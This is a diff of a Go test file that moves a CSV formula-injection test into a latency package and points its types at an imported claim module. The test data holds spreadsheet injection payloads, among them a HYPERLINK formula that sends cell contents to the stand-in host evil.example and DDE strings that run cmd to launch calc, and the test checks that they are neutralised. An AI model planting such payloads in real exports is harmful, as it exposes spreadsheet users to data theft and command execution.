@@ -1,4 +1,4 @@
-package claim
+package latency
 
 import (
 	"bytes"
@@ -7,6 +7,8 @@ import (
 	"time"
 
 	"github.com/stretchr/testify/require"
+
+	"github.com/fleetwright/fleetwright/modules/claim"
 )
 
 // Item 16 of issue 12: job keys and worker names that a spreadsheet would
@@ -15,13 +17,13 @@ func TestLatencyCSVNeutralisesFormulaPrefixes(t *testing.T) {
 	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
 	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
 		"\t=1+1", "\r=1+1"}
-	var claims []Claim
+	var claims []claim.Claim
 	for i, e := range evil {
-		c := Claim{Key: e, State: Confirmed, Cell: e, LeasedAt: now.Add(time.Duration(i) * time.Second)}
+		c := claim.Claim{Key: e, State: claim.Confirmed, Cell: e, LeasedAt: now.Add(time.Duration(i) * time.Second)}
 		c.Holder.Worker = e
 		claims = append(claims, c)
 	}
-	plain := Claim{Key: "LD-100", State: Confirmed, Cell: "default", LeasedAt: now}
+	plain := claim.Claim{Key: "LD-100", State: claim.Confirmed, Cell: "default", LeasedAt: now}
 	plain.Holder.Worker = "actor-7"
 	claims = append(claims, plain)
 	var b bytes.Buffer
